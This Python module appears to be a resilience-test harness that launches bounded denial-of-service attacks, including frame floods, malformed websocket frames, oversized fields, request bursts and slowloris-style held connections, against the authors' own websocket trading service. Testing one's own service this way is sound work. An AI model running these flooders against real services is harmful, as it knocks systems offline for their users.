"""The attacks, each bounded in time and in what it opens; by one tenant's token unless said.

`python -m attacking.programs` reads a plan as JSON from standard input, attacks, and writes one
line of JSON about what it saw: in words, and how much of it really took place. Only what was let in
counts: bytes on connections that were opened, bills that came, changes that were done.
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import sys
import time
from collections.abc import Callable, Iterator
from itertools import count, groupby, islice, repeat
from urllib.parse import urlsplit

import msgspec

from attacking import doors
from attacking.stage import KEYED_COMMANDS, OTHER_TREE, AttackPlan, Done, wide_paths
from laissez.model import (
    AmendOrder,
    Answer,
    AskBill,
    Bill,
    CancelOrder,
    PlaceOrder,
    Rejected,
    Reply,
    Request,
    Said,
    Subscribe,
    encode,
)
from raw_websocket import BINARY, CONTINUATION, PING, TEXT, Closed, RawSocket, TurnedAway, frame

SMALL_BUFFER = 4_096
SENT_AT_ONCE = 1 << 16
REOPENED_MAX = 200
LORIS = 1_050
LISTENERS = 90
UNREAD_GETS = 508
KEYED_AT_ONCE = 100
KEYED_PER_S = 900
CHANGED_AT_ONCE = 10
CHANGED_PER_S = 900


Payloads = Iterator[bytes]


class Flooder:
    """One socket that is kept full, and opened again when it is closed."""

    def __init__(self, plan: AttackPlan, payloads: Callable[[], Payloads], *, reads: bool) -> None:
        self.reads = reads
        self.tried = 0
        self.opened = 0
        self.sent_bytes = 0
        self.socket: socket.socket | None = None
        self._plan = plan
        self._payloads = payloads

    def open(self) -> None:
        self.socket = None
        if self.tried < REOPENED_MAX:
            self.tried += 1
            buffer = None if self.reads else SMALL_BUFFER
            with contextlib.suppress(OSError, Closed, TurnedAway):
                raw = RawSocket(self._plan.url, self._plan.token, receive_buffer=buffer)
                self.socket = raw.socket
                self.socket.setblocking(False)
                self.opened += 1
        self._waiting = self._payloads()
        self._now = b""

    def write(self) -> bool:
        """Send what the socket takes; False if there is nothing more to send."""
        assert self.socket is not None
        if not self._now:
            self._now = next(self._waiting, b"")
            if not self._now:
                return False
        sent = self.socket.send(self._now[:SENT_AT_ONCE])
        self._now = self._now[sent:]
        self.sent_bytes += sent
        return True

    def read(self) -> None:
        assert self.socket is not None
        if not self.socket.recv(1 << 18):
            raise ConnectionError


def flood(
    plan: AttackPlan, sockets: int, payloads: Callable[[], Payloads], *, reads: bool = True
) -> Done:
    """Write to some sockets as fast as they take it; with `reads`, read what comes back."""
    flooders = [Flooder(plan, payloads, reads=reads) for _ in range(sockets)]
    selector = selectors.DefaultSelector()
    ends = time.monotonic() + plan.seconds

    def begin(flooder: Flooder) -> None:
        flooder.open()
        if flooder.socket is not None:
            wanted = selectors.EVENT_WRITE | (selectors.EVENT_READ if flooder.reads else 0)
            selector.register(flooder.socket, wanted, flooder)

    for flooder in flooders:
        begin(flooder)
    while time.monotonic() < ends:
        if not selector.get_map():
            time.sleep(0.05)
        for key, ready in selector.select(0.05):
            flooder = key.data
            try:
                if ready & selectors.EVENT_READ:
                    flooder.read()
                if ready & selectors.EVENT_WRITE and not flooder.write():
                    only = selectors.EVENT_READ if flooder.reads else 0
                    if only:
                        selector.modify(key.fileobj, only, flooder)
                    else:
                        selector.unregister(key.fileobj)
            except BlockingIOError:
                continue
            except OSError:
                selector.unregister(key.fileobj)
                key.fileobj.close()  # type: ignore[union-attr]
                time.sleep(0.02)
                begin(flooder)
    sent = sum(flooder.sent_bytes for flooder in flooders)
    opened = sum(flooder.opened for flooder in flooders)
    return Done(f"{sent / 1e6:,.2f} MB sent over {opened} connections", sent / 1e6)


def paced(plan: AttackPlan, payload: bytes, per_s: float) -> Callable[[], Payloads]:
    """The same again and again, at a rate; what is due is sent when the socket takes it."""
    begun = time.monotonic()

    def payloads() -> Payloads:
        for number in count():
            while time.monotonic() < begun + number / per_s:
                time.sleep(0.001)
            yield payload

    return payloads


def _requests(body: bytes, requests: int) -> bytes:
    """One frame of as many requests, all alike."""
    parts = (b'{"id":%d,"do":%b}' % (number, body) for number in range(requests))
    return frame(b"[" + b",".join(parts) + b"]")


# By name ----------------------------------------------------------------------------------------


def pongs(plan: AttackPlan) -> Done:
    payload = frame(b"x" * 125, PING) * 500
    return flood(plan, 4, lambda: repeat(payload), reads=False)


def replays(plan: AttackPlan) -> Done:
    payload = _requests(b'{"type":"Subscribe","after":0}', 1_000)
    return flood(plan, 1, lambda: iter([payload]), reads=False)


def explanations(plan: AttackPlan) -> Done:
    told = _ask_bills(plan, explain=True)
    return Done(f"{told} bills explained", told)


def bills(plan: AttackPlan) -> Done:
    told = _ask_bills(plan, explain=False)
    return Done(f"{told} bills told", told)


def _ask_bills(plan: AttackPlan, *, explain: bool) -> int:
    """Ask for one bill after the other, within the allowance or beyond; how many came."""
    ends, told = time.monotonic() + plan.seconds, 0
    with RawSocket(plan.url, plan.token) as raw:
        while (left := ends - time.monotonic()) > 0:
            raw.socket.settimeout(left)
            try:
                told += is_bill(raw.ask(AskBill(explain=explain)), explain=explain)
            except (TimeoutError, Closed):
                break
    return told


def is_bill(said: Said, *, explain: bool) -> bool:
    """A refusal is none, and what explains nothing is not explained."""
    bill = said.told if isinstance(said, Reply) else None
    return isinstance(bill, Bill) and (bool(bill.open_segments) or not explain)


def restless(plan: AttackPlan) -> Done:
    """Change one's own prices at scopes of every depth, within the allowance, and ask for one's
    bill every second: each change is work for whoever counts what the holdings under it owe."""
    by_depth = [list(paths) for _, paths in groupby(wide_paths(), key=lambda path: path.count("/"))]
    begun, changed, told = time.monotonic(), 0, 0
    with RawSocket(plan.url, plan.token) as raw:
        for turn in count(1):
            due = begun + turn * CHANGED_AT_ONCE / CHANGED_PER_S
            if due > begun + plan.seconds:
                break
            numbers = range(changed, changed + CHANGED_AT_ONCE)
            chosen = [
                by_depth[number % 4][number // 4 % len(by_depth[number % 4])] for number in numbers
            ]
            prices = [2_000 + number * 7_919 % 1_000 for number in numbers]
            raw.answers(raw.send(*map(_at_price, chosen, prices)))
            changed += CHANGED_AT_ONCE
            if changed % CHANGED_PER_S < CHANGED_AT_ONCE:
                told += is_bill(raw.ask(AskBill()), explain=False)
            time.sleep(max(due - time.monotonic(), 0))
    return Done(f"{changed:,} prices changed, {told} bills told", changed)


def _at_price(order: str, price: int) -> AmendOrder:
    return AmendOrder(order, price=price)


def requests_beyond(plan: AttackPlan) -> Done:
    payload = _requests(b'{"type":"AskQuote","scope":"h100"}', 1_000)
    return flood(plan, 8, lambda: repeat(payload))


def many_in_a_frame(plan: AttackPlan) -> Done:
    payload = _requests(b'{"type":"AskStatus"}', 25_000)
    return flood(plan, 8, lambda: repeat(payload))


def unreadable(plan: AttackPlan) -> Done:
    payload = frame(b"[" + b",".join([b'{"id":1,"do":0}'] * 65_000) + b"]")
    return flood(plan, 8, lambda: repeat(payload))


def tiny_frames(plan: AttackPlan) -> Done:
    """None of them can be read: empty text, and what is no text."""
    payload = (frame(b"") + frame(b"", BINARY)) * 5_000
    return flood(plan, 8, lambda: repeat(payload))


def pings(plan: AttackPlan) -> Done:
    payload = frame(b"", PING) * 5_000
    return flood(plan, 8, lambda: repeat(payload))


def continuations(plan: AttackPlan) -> Done:
    begins = frame(b"", TEXT, first=0)
    payload = frame(b"", CONTINUATION, first=0) * 5_000

    def payloads() -> Payloads:
        yield begins
        yield from repeat(payload)

    return flood(plan, 8, payloads)


def long_numbers(plan: AttackPlan) -> Done:
    body = b'{"type":"PlaceOrder","scope":"h100","price_micros_per_hour":%b}' % (b"7" * 4_291)
    return flood(plan, 1, paced(plan, _requests(body, 50), 20))


def long_paths(plan: AttackPlan) -> Done:
    path = "h100/" + "\N{GRINNING FACE}" * 2_000
    body = b'{"type":"PlaceOrder","scope":"%b","price_micros_per_hour":1}' % path.encode()
    return flood(plan, 1, paced(plan, _requests(body, 50), 20))


def keys(plan: AttackPlan) -> Done:
    """Use many keys, each for an order that is placed and cancelled, within the allowance."""
    begun, done, numbers = time.monotonic(), 0, count()
    with RawSocket(plan.url, plan.token) as raw:
        while done < KEYED_COMMANDS and time.monotonic() < begun + plan.seconds:
            asked: list[Request] = []
            for number in islice(numbers, KEYED_AT_ONCE // 2):
                order = f"k{number}"
                place, cancel = PlaceOrder(OTHER_TREE, 1, 1, order), CancelOrder(order)
                asked.append(Request(2 * number, place, f"place {number}"))
                asked.append(Request(2 * number + 1, cancel, f"cancel {number}"))
            raw.send_text(encode(asked))
            answers = raw.answers([each.id for each in asked])
            done += sum(
                isinstance(answer, Answer)
                and not any(isinstance(each, Rejected) for each in answer.events)
                for answer in answers.values()
            )
            time.sleep(KEYED_AT_ONCE / KEYED_PER_S)
    return Done(f"{done} keys used", done)


def listeners(plan: AttackPlan) -> Done:
    """Listen on many connections, and read what is told as fast as it comes."""
    ends, heard_bytes = time.monotonic() + plan.seconds, 0
    selector = selectors.DefaultSelector()
    for _ in range(LISTENERS):
        raw = RawSocket(plan.url, plan.token)
        raw.send(Subscribe())
        raw.socket.setblocking(False)
        selector.register(raw.socket, selectors.EVENT_READ)
    while time.monotonic() < ends and selector.get_map():
        for key, _ in selector.select(0.05):
            assert isinstance(key.fileobj, socket.socket)
            try:
                data = key.fileobj.recv(1 << 18)
            except OSError:
                data = b""
            heard_bytes += len(data)
            if not data:
                selector.unregister(key.fileobj)
    left = len(selector.get_map())
    note = f"{heard_bytes / 1e6:,.1f} MB heard; {left} of {LISTENERS} listen at the end"
    return Done(note, heard_bytes / 1e6)


def unread_gets(plan: AttackPlan) -> Done:
    asked = f"GET /v1/orders HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {plan.token}\r\n\r\n"
    return _hold(plan, [(asked.encode(), b"")] * UNREAD_GETS, begins=b"HTTP/1.1 200")


def loris(plan: AttackPlan) -> Done:
    """Without a token: a second request byte by byte, bodies without end, and silence."""
    second = b"GET /v1/status HTTP/1.1\r\nHost: x\r\n\r\nGET /v1/status HTTP/1.1\r\nX-A: "
    body = b"POST /v1/orders HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n{"
    return _hold(plan, [(second, b"a"), (body, b" "), (b"", b"")] * (LORIS // 3))


def silent_tls(plan: AttackPlan) -> Done:
    """Without a token, at a door that speaks TLS: connect, and say nothing."""
    return _hold(plan, [(b"", b"")] * LORIS)


def _hold(plan: AttackPlan, said: list[tuple[bytes, bytes]], begins: bytes = b"") -> Done:
    """Open connections, say something once, a byte more each second, and read nothing until the
    end; those count whose answer `begins` so."""
    parts = urlsplit(plan.url)
    assert parts.hostname is not None and parts.port is not None
    ends = time.monotonic() + plan.seconds
    held: list[tuple[socket.socket, bytes]] = []
    for once, again in said:
        plain = socket.socket()
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL_BUFFER)
        plain.settimeout(0.5)
        try:
            plain.connect((parts.hostname, parts.port))
            plain.sendall(once)
        except OSError:
            plain.close()
            continue
        plain.setblocking(False)
        held.append((plain, again))
        if time.monotonic() > ends:
            break
    while time.monotonic() < ends:
        time.sleep(min(1, max(ends - time.monotonic(), 0)))
        for plain, again in held:
            with contextlib.suppress(OSError):
                plain.send(again)
    heard = [_hear(plain) for plain, _ in held]
    alive = sum(is_open for _, is_open in heard)
    counted = sum(told.startswith(begins) for told, _ in heard)
    note = f"{alive} of {len(said)} connections are alive at the end"
    return Done(f"{note}; {counted} got what they came for" if begins else note, counted)


def _hear(plain: socket.socket) -> tuple[bytes, bool]:
    """The beginning of what was said on a connection, and whether it is still open."""
    told = b""
    try:
        while some := plain.recv(1 << 16):
            told = told or some
    except BlockingIOError:
        return told, True
    except OSError:
        return told, False
    return told, False


PROGRAMS: dict[str, Callable[[AttackPlan], Done]] = {
    program.__name__: program
    for program in (
        pongs,
        replays,
        explanations,
        bills,
        restless,
        requests_beyond,
        many_in_a_frame,
        unreadable,
        tiny_frames,
        pings,
        continuations,
        long_numbers,
        long_paths,
        keys,
        listeners,
        unread_gets,
        loris,
        silent_tls,
        doors.no_token,
        doors.strange_handshakes,
        doors.handshakes,
        doors.connects,
        doors.silence,
        doors.half_heads,
        doors.half_handshakes,
        doors.smallest_chunks,
        doors.own_smallest_chunks,
        doors.not_there,
        doors.not_so,
        doors.too_large,
    )
}


if __name__ == "__main__":
    given = msgspec.json.decode(sys.stdin.buffer.read(), type=AttackPlan)
    try:
        done = PROGRAMS[given.program](given)
    except (Closed, TurnedAway) as end:
        done = Done(f"turned out: {type(end).__name__} {end}"[:70])
    print(msgspec.json.encode(done).decode())
